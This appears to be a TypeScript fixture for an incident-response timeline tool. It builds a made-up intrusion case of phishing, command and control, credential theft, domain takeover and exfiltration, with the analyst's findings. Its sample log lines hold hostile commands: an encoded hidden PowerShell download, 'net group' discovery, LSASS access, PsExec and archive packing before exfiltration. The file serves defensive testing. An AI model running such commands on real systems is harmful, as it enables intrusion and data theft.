import type { BoardItem } from '#shared/model/board.ts';
import type { EventDetail } from '#shared/model/event.ts';
import type { EvidenceItem } from '#shared/model/evidence.ts';
import type { Finding } from '#shared/model/finding.ts';
import type { BoardItemId, FindingId } from '#shared/model/ids.ts';
import type { Precision } from '#shared/model/time.ts';
import { at, eventOf, firewall, security, sysmon } from './harbour-evidence.ts';

/** What the analyst of the made-up case put on the board and concluded. */

interface Step {
  readonly iso: string;
  readonly title: string;
  readonly phase: BoardItem['phase'];
  readonly technique?: string;
  readonly host?: string;
  readonly actor?: string;
  readonly file?: EvidenceItem;
  readonly message?: string;
  readonly precision?: Precision;
  readonly standing?: BoardItem['standing'];
  readonly confidence?: BoardItem['confidence'];
  readonly basis?: string;
  readonly reason: string;
  readonly end?: string;
}

const STEPS: readonly Step[] = [
  {
    iso: '2026-05-11T22:14:00Z',
    title: 'Scan of the public web server begins',
    phase: 'reconnaissance',
    technique: 'T1595.002',
    file: firewall,
    message: 'fw1 kernel: ACCEPT IN=wan OUT=dmz SRC=203.0.113.66 DST=192.0.2.10 PROTO=TCP DPT=443',
    precision: 's',
    host: 'web1',
    actor: '203.0.113.66',
    reason: 'First contact from the address seen in every later step.',
  },
  {
    iso: '2026-05-12T07:52:11Z',
    title: 'Lure with macro document delivered',
    phase: 'initial-access',
    technique: 'T1566.001',
    standing: 'inferred',
    confidence: 'medium',
    basis:
      'Mail gateway administrator, by telephone on 13 May; the gateway’s log was not collected',
    actor: '203.0.113.66',
    host: 'mail',
    reason: 'The document opened 80 minutes later carries this name.',
  },
  {
    iso: '2026-05-12T09:12:04.113Z',
    title: 'Word starts hidden PowerShell',
    phase: 'execution',
    technique: 'T1059.001',
    file: sysmon,
    message:
      'Process created: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA (parent WINWORD.EXE, user LINDHOLM\\a.berg)',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'Parent is WINWORD.EXE; the encoded command downloads a.ps1.',
  },
  {
    iso: '2026-05-12T09:12:06.020Z',
    title: 'First contact with command and control',
    phase: 'command-and-control',
    technique: 'T1071.001',
    file: sysmon,
    message: 'Network connection: powershell.exe 192.0.2.107:50412 to 198.51.100.23:443 (TCP)',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'Then every ten minutes until the host was cut off.',
    end: '2026-05-13T05:40:00Z',
  },
  {
    iso: '2026-05-12T09:12:06.020Z',
    title: 'Run key keeps the implant',
    phase: 'persistence',
    technique: 'T1547.001',
    file: sysmon,
    message:
      'Registry value set: HKU\\S-1-5-21-1004\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate = C:\\Users\\a.berg\\AppData\\Local\\updsvc.exe',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'Survives logoff; points at updsvc.exe.',
  },
  {
    iso: '2026-05-12T09:21:40Z',
    title: 'Domain administrators listed',
    phase: 'discovery',
    technique: 'T1069.002',
    file: sysmon,
    message: 'Process created: net.exe group "Domain Admins" /domain',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'One of four discovery commands in four minutes.',
  },
  {
    iso: '2026-05-12T09:44:13Z',
    title: 'Memory of LSASS read',
    phase: 'credential-access',
    technique: 'T1003.001',
    file: sysmon,
    message: 'Process accessed: updsvc.exe opened lsass.exe with 0x1010',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'Access 0x1010 by the implant.',
  },
  {
    iso: '2026-05-12T13:30:02Z',
    title: 'Password guessing against DC1',
    phase: 'credential-access',
    technique: 'T1110.003',
    file: security,
    message: 'Logon failed: m.holm from 192.0.2.107 (bad password)',
    host: 'DC1',
    actor: 'WS07',
    reason: '46 failures in 90 seconds.',
    end: '2026-05-12T13:31:32Z',
  },
  {
    iso: '2026-05-12T14:05:19Z',
    title: 'Service account logs on to FS01 from WS07',
    phase: 'lateral-movement',
    technique: 'T1021.002',
    file: security,
    message: 'Logon: svc_backup from 192.0.2.107 to FS01 (network)',
    host: 'FS01',
    actor: 'svc_backup',
    reason: 'The account never logs on from a workstation otherwise.',
  },
  {
    iso: '2026-05-12T14:05:22Z',
    title: 'PsExec service installed on FS01',
    phase: 'lateral-movement',
    technique: 'T1569.002',
    file: security,
    message: 'Service installed: PSEXESVC (%SystemRoot%\\PSEXESVC.exe), demand start, LocalSystem',
    host: 'FS01',
    actor: 'svc_backup',
    reason: 'Three seconds after the logon.',
  },
  {
    iso: '2026-05-12T15:20:44Z',
    title: 'Account helpdesk2 created',
    phase: 'persistence',
    technique: 'T1136.002',
    file: security,
    message: 'User account created: helpdesk2 by LINDHOLM\\adm.nyberg',
    host: 'DC1',
    actor: 'adm.nyberg',
    reason: 'From WS07, while she was in a meeting.',
  },
  {
    iso: '2026-05-12T15:21:10Z',
    title: 'helpdesk2 made a domain administrator',
    phase: 'privilege-escalation',
    technique: 'T1098.007',
    file: security,
    message: 'Member added to Domain Admins: helpdesk2 by LINDHOLM\\adm.nyberg',
    host: 'DC1',
    actor: 'adm.nyberg',
    reason: 'Full control of the domain from here on.',
  },
  {
    iso: '2026-05-13T01:40:02Z',
    title: 'Contracts packed on FS01',
    phase: 'collection',
    technique: 'T1560.001',
    file: security,
    message: 'Process created: 7z.exe a -v200m -p*** D:\\tmp\\c.7z D:\\Shares\\Contracts',
    host: 'FS01',
    actor: 'helpdesk2',
    reason: 'Encrypted, in 200 MB volumes.',
  },
  {
    iso: '2026-05-13T02:19:31Z',
    title: 'At least 2.5 GB leave the file server',
    phase: 'exfiltration',
    technique: 'T1048.002',
    file: firewall,
    message: 'fw1 kernel: CLOSE SRC=192.0.2.20 DST=198.51.100.23 BYTES=209715200',
    precision: 's',
    host: 'FS01',
    actor: 'helpdesk2',
    reason: 'First of twelve equal parts.',
    end: '2026-05-13T03:04:12Z',
  },
  {
    iso: '2026-05-13T03:10:00Z',
    title: 'Security log of WS07 cleared',
    phase: 'defense-evasion',
    technique: 'T1685.005',
    file: sysmon,
    message: 'The audit log was cleared by LINDHOLM\\helpdesk2',
    host: 'WS07',
    actor: 'helpdesk2',
    reason: 'Sysmon and forwarded copies remained.',
  },
  {
    iso: '2026-05-13T00:00:00Z',
    title: 'A second workstation may have been entered',
    phase: 'lateral-movement',
    precision: 'day',
    standing: 'assumed',
    confidence: 'low',
    basis: 'IT operations remembers an unknown session on WS11; no log of that host exists',
    host: 'WS11',
    reason: 'Kept on the board so that it is not forgotten.',
  },
  {
    iso: '2026-05-13T05:31:12Z',
    title: 'Defender reports the implant',
    phase: 'response',
    file: sysmon,
    message:
      'Malware detected: Trojan:Win32/Wacatac.B!ml in C:\\Users\\a.berg\\AppData\\Local\\updsvc.exe',
    host: 'WS07',
    actor: 'Microsoft Defender',
    reason: 'The detection that started this case.',
  },
  {
    iso: '2026-05-13T05:55:00Z',
    title: 'Account helpdesk2 disabled',
    phase: 'response',
    file: security,
    message: 'User account disabled: helpdesk2 by LINDHOLM\\adm.nyberg',
    host: 'DC1',
    actor: 'adm.nyberg',
    reason: 'First containment act.',
  },
];

export const promoted = STEPS.flatMap((step, n): readonly EventDetail[] =>
  step.file === undefined
    ? []
    : [
        eventOf(step.file, n, {
          message: step.message ?? '',
          time: at(step.iso),
          precision: step.precision ?? '100ns',
          ...(step.file === firewall && {
            zone: 'assumed' as const,
            timeOriginal: 'May 12 00:14:00',
            category: 'network' as const,
          }),
          ...(step.host !== undefined && { host: step.host }),
          ...(step.actor !== undefined && step.file !== firewall && { user: step.actor }),
        }),
      ],
);
export const eventAt = (iso: string): EventDetail => {
  const found = promoted.find(({ time }) => time === at(iso));
  if (found === undefined) throw new Error(`no event at ${iso}`);
  return found;
};

export const board: readonly BoardItem[] = STEPS.map((step, n) => {
  const event = step.file === undefined ? undefined : eventAt(step.iso);
  return {
    id: `item-${n}` as BoardItemId,
    title: step.title,
    time: at(step.iso),
    ...(step.end !== undefined && { end: at(step.end) }),
    precision: step.precision ?? '100ns',
    ...(event !== undefined && { event: event.id }),
    ...(step.basis !== undefined && { basis: step.basis }),
    reason: step.reason,
    standing: step.standing ?? 'proven',
    confidence: step.confidence ?? 'high',
    phase: step.phase,
    ...(step.technique !== undefined && { technique: step.technique }),
    ...(step.host !== undefined && { host: step.host }),
    ...(step.actor !== undefined && { actor: step.actor }),
    rank: `a${String.fromCharCode(65 + n)}`,
  };
});

export const findings: readonly Finding[] = [
  {
    id: 'finding-macro' as FindingId,
    title: 'A macro document gave the intruder WS07',
    severity: 'high',
    confidence: 'high',
    status: 'confirmed',
    statement:
      'Invoice_4471.docm was opened by Anna Berg at 09:12 UTC on 12 May 2026. Word started PowerShell, which fetched the implant updsvc.exe and made it start at every logon.',
    technique: 'T1566.001',
    events: [eventAt('2026-05-12T09:12:04.113Z').id],
  },
  {
    id: 'finding-domain' as FindingId,
    title: 'The domain was taken with a stolen administrator account',
    severity: 'critical',
    confidence: 'high',
    status: 'confirmed',
    statement:
      'With credentials read from WS07 the intruder logged on to DC1 as adm.nyberg, created helpdesk2 and made it a domain administrator.',
    technique: 'T1136.002',
    events: [
      eventAt('2026-05-12T09:44:13Z').id,
      eventAt('2026-05-12T15:20:44Z').id,
      eventAt('2026-05-12T15:21:10Z').id,
    ],
  },
  {
    id: 'finding-contracts' as FindingId,
    title: 'At least 2.5 GB of contracts left the network',
    severity: 'critical',
    confidence: 'medium',
    status: 'open',
    statement:
      'Twelve sessions of 200 MB each went from FS01 to 198.51.100.23 between 02:19 and 03:04 UTC on 13 May 2026, after the Contracts share had been packed with 7-Zip.\n\nWhat the archives held cannot be seen: they were encrypted.',
    technique: 'T1048.002',
    events: [eventAt('2026-05-13T01:40:02Z').id, eventAt('2026-05-13T02:19:31Z').id],
  },
  {
    id: 'finding-vpn' as FindingId,
    title: 'VPN logon from abroad',
    severity: 'low',
    confidence: 'high',
    status: 'dismissed',
    statement: 'The employee was travelling; confirmed by telephone.',
    events: [],
  },
];
